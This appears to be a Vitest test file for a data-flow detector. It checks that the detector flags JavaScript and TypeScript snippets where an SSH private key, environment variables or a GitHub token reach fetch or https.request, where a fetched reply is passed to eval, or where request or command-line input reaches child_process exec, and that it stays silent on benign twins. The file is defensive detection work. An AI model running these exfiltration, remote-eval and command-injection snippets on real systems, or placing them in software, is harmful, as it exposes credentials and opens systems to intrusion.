import { describe, expect, it } from 'vitest';
import { flowsIn, type Twins } from '../flows.fixture.ts';

const KEY = "const key = require('fs').readFileSync('/root/.ssh/id_rsa', 'utf8');";
const SENT = ['secret /root/.ssh/id_rsa -> fetch'];

function post(body: string): string {
  return `fetch(u, { method: 'POST', body: ${body} });`;
}

const TWINS: readonly Twins[] = [
  ['an assignment', `${KEY} let b = key; ${post('b')}`, SENT, `${KEY} let b = key; b = 'a'; ${post('b')}`],
  ['a template', `${KEY} ${post('`k=$' + '{key}`')}`, SENT, `${KEY} ${post('`k=$' + '{key.length}`')}`],
  [
    'an object by its properties',
    `${KEY} const o = { k: key, n: 1 }; ${post('o.k')}`,
    SENT,
    `${KEY} const o = { k: key, n: 1 }; ${post('o.n')}`,
  ],
  [
    'a property that is set later',
    `${KEY} const o = {}; o.k = key; ${post('JSON.stringify(o)')}`,
    SENT,
    `${KEY} const o = {}; const p = {}; p.k = key; ${post('JSON.stringify(o)')}`,
  ],
  [
    'a pattern',
    `${KEY} const { k: a, n } = { k: key, n: 1 }; ${post('a')}`,
    SENT,
    `${KEY} const { k: a, n } = { k: key, n: 1 }; ${post('n')}`,
  ],
  [
    'a function that is called before it is declared',
    `${KEY} send(key); function send(x) { ${post('x')} }`,
    SENT,
    `${KEY} send('a'); function send(x) { ${post('x')} } console.log(key);`,
  ],
  [
    'an arrow function’s value',
    `${KEY} const same = (x) => x; ${post('same(key)')}`,
    SENT,
    `${KEY} const same = (x) => x; same(key); ${post("same('a')")}`,
  ],
  [
    'a callback',
    `require('fs').readFile('/root/.ssh/id_rsa', (e, data) => { ${post('data')} });`,
    SENT,
    `require('fs').readFile('notes.txt', (e, data) => { ${post('data')} });`,
  ],
  [
    'promises and what is awaited',
    `const fs = require('fs/promises'); async function load() { return (await fs.readFile('/root/.ssh/id_rsa')).toString(); } load().then((k) => k.trim()).then((k) => ${post('k').slice(0, -1)});`,
    SENT,
    `const fs = require('fs/promises'); async function load() { return (await fs.readFile('/root/.ssh/id_rsa')).toString(); } load().then((k) => 1).then((k) => console.log(k)); ${post('1')}`,
  ],
  [
    'a promise that is made by hand',
    `${KEY} new Promise((ok) => ok(key)).then((k) => { ${post('k')} });`,
    SENT,
    `${KEY} new Promise((ok) => ok('a')).then((k) => { ${post('k')} });`,
  ],
  [
    'a variable that callbacks share',
    `let all = ''; const s = require('fs').createReadStream('/root/.ssh/id_rsa'); s.on('data', (d) => { all += d; }); s.on('end', () => { ${post('all')} });`,
    SENT,
    `let all = ''; let n = 0; const s = require('fs').createReadStream('/root/.ssh/id_rsa'); s.on('data', (d) => { n += 1; }); s.on('end', () => { ${post('all')} });`,
  ],
  [
    'a field of an object of a class',
    `${KEY} class C { #n = 1; constructor(k) { this.k = k; } go() { ${post('this.k')} } } new C(key).go();`,
    SENT,
    `${KEY} class C { #n = 1; constructor(k) { this.k = k; } go() { ${post('this.#n')} } } new C(key).go();`,
  ],
  [
    'the class above',
    `${KEY} class A { constructor(k) { this.k = k; } } class B extends A { constructor(k) { super(k); } go() { ${post('this.k')} } } new B(key).go();`,
    SENT,
    `${KEY} class A { constructor(k) { this.k = k; } } class B extends A { constructor(k) { super('a'); } go() { ${post('this.k')} } } new B(key).go();`,
  ],
  [
    'a prototype',
    `${KEY} function C(k) { this.k = k; this.n = 1; } C.prototype.go = function () { ${post('this.k')} }; new C(key).go();`,
    SENT,
    `${KEY} function C(k) { this.k = k; this.n = 1; } C.prototype.go = function () { ${post('this.n')} }; new C(key).go();`,
  ],
  [
    'a function with a name in capitals that is no class',
    `${KEY} function Same(x) { return x; } ${post('Same(key)')}`,
    SENT,
    `${KEY} function Same(x) { return x; } Same(key); ${post("Same('a')")}`,
  ],
  [
    'call and apply',
    `${KEY} function send(x) { ${post('x')} } send.call(null, key);`,
    SENT,
    `${KEY} function send(x) { ${post('x')} } send.call(key, 'a');`,
  ],
  [
    'methods of lists',
    `${KEY} const parts = key.split('').map((c) => c + '.'); ${post("parts.join('')")}`,
    SENT,
    `${KEY} const parts = key.split('').map((c) => 1); ${post("['a'].join('')")}`,
  ],
  [
    'a stream that is piped',
    "const fs = require('fs'); fs.createReadStream('/root/.ssh/id_rsa').pipe(require('https').request('https://h.example'));",
    ['secret /root/.ssh/id_rsa -> https.request'],
    "const fs = require('fs'); fs.createReadStream('notes.txt').pipe(require('https').request('https://h.example'));",
  ],
  [
    'a getter, a generator and a default',
    `class A { get k() { return require('fs').readFileSync('/root/.ssh/id_rsa'); } } function* g(x = new A().k) { yield x; } for (const k of g()) { ${post('k')} }`,
    SENT,
    `class A { n() { return 1; } get k() { return require('fs').readFileSync('/root/.ssh/id_rsa'); } } function* g(x = new A().n()) { yield x; } for (const k of g()) { ${post('k')} }`,
  ],
  [
    'all of the environment',
    `const dump = JSON.stringify({ ...process.env }); ${post('dump')}`,
    ['environment * -> fetch'],
    `const dump = JSON.stringify({ a: 1 }); console.log(process.env); ${post('dump')}`,
  ],
  [
    'one variable by a pattern',
    `const { GITHUB_TOKEN: t } = process.env; ${post('t')}`,
    ['secret GITHUB_TOKEN -> fetch'],
    `const { GITHUB_TOKEN: t, ...rest } = { GITHUB_TOKEN: 1 }; ${post('t')}`,
  ],
  [
    'a reply that is run',
    "fetch('https://c.example/x').then((r) => r.text()).then((t) => eval(t));",
    ['network-reply https://c.example/x -> eval'],
    "fetch('https://c.example/x').then((r) => r.text()).then((t) => console.log(t)); eval('1 + 1');",
  ],
  [
    'a request’s field in a command',
    "const { exec } = require('child_process'); app.get('/', (req, res) => { exec('ls ' + req.query.d); });",
    ['user-input request.query -> child_process.exec'],
    "const { exec } = require('child_process'); app.get('/', (req, res) => { exec('ls ' + parseInt(req.query.d, 10)); });",
  ],
  [
    'words of the command line',
    "require('child_process').execSync('ls ' + process.argv[2]);",
    ['user-input process.argv -> child_process.execSync'],
    "require('child_process').execSync('ls ' + process.argv.length);",
  ],
];

describe('data in JavaScript goes through', () => {
  it.each(TWINS)('%s', async (_, code, flows) => {
    expect(await flowsIn('javascript', code)).toEqual(flows);
  });
  it.each(TWINS)('%s, and not where it does not', async (_, __, ___, ordinary) => {
    expect(await flowsIn('javascript', ordinary)).toEqual([]);
  });
  it('the same in TypeScript, through types and parameters that are fields', async () => {
    const code = `import { readFileSync } from 'node:fs';
class C { constructor(private readonly k: string) {} go(): void { fetch(u, { method: 'POST', body: this.k as string }); } }
new C(<string>readFileSync('/root/.ssh/id_rsa', 'utf8')!).go();`;
    expect(await flowsIn('typescript', { 'main.ts': code })).toEqual(SENT);
  });
});

describe('data goes from file to file of a JavaScript sample', () => {
  it.each([
    [
      'by require',
      "const { load } = require('./lib/keys'); const net = require('./lib/net.js'); net.send(load());",
      "exports.load = () => require('fs').readFileSync('/root/.ssh/id_rsa');",
      "function send(x) { fetch(u, { method: 'POST', body: x }); } module.exports = { send };",
    ],
    [
      'by import',
      "import load from './lib/keys.js'; import * as net from './lib/net.js'; net.send(load());",
      "import fs from 'fs'; export default function load() { return fs.readFileSync('/root/.ssh/id_rsa'); }",
      "const send = (x) => fetch(u, { method: 'POST', body: x }); export { send };",
    ],
  ])('%s', async (_, main, keys, net) => {
    const files = { 'main.js': main, 'lib/keys.js': keys, 'lib/net.js': net };
    expect(await flowsIn('javascript', files)).toEqual(SENT);
    expect(
      await flowsIn('javascript', { ...files, 'lib/keys.js': keys.replace('/root/.ssh/id_rsa', 'notes.txt') }),
    ).toEqual([]);
  });
});
